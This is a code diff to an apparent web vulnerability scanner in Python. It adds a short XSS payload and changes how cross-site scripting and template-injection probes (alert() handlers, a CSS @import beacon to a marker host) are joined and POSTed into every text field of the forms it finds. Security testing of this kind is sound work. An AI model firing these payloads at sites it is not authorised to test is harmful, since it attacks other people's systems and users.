@@ -20,6 +20,7 @@ PAYLOADS = (
     f"{{{{ {MARK} }}}}{{% load x %}}<style>@import '//{MARK}.example/x';</style>",
     f"\u202e{MARK}<b/onmouseover=alert(4)>&lt;script&gt;alert(5)&lt;/script&gt;",
 )
+SHORT = '"><b onclick=alert(6)>'  # where there is little room
 PLAUSIBLE = {
     "datetime-local": "2027-01-01T10:00",
     "date": "2027-01-01",
@@ -93,8 +94,8 @@ def fill(page, address, code):
         if not texts:
             continue
         for button in [*form.iter("button")] or [None]:
-            for payload in PAYLOADS[:: 1 if len(texts) < 3 else 3]:
-                data = values(form, texts, payload)
+            for payloads in (PAYLOADS[:4], PAYLOADS[4:]):
+                data = values(form, texts, " ".join(payloads))
                 if button is not None and button.get("name"):
                     data[button.get("name")] = button.get("value", "")
                 page.request.post(form.action or address, form=data, headers={"Referer": page.url}, max_redirects=0)
@@ -115,7 +116,8 @@ def values(form, texts, payload):
         if not name or kind == "file" or (kind == "radio" and name in data):
             continue
         if name in texts:
-            data[name] = payload
+            room = int(field.get("maxlength") or len(payload))
+            data[name] = payload if len(payload) <= room else SHORT[:room]
         elif field.tag == "select":
             options = [each.get("value", "") for each in field.iter("option")]
             data[name] = next((each for each in options if each), "")
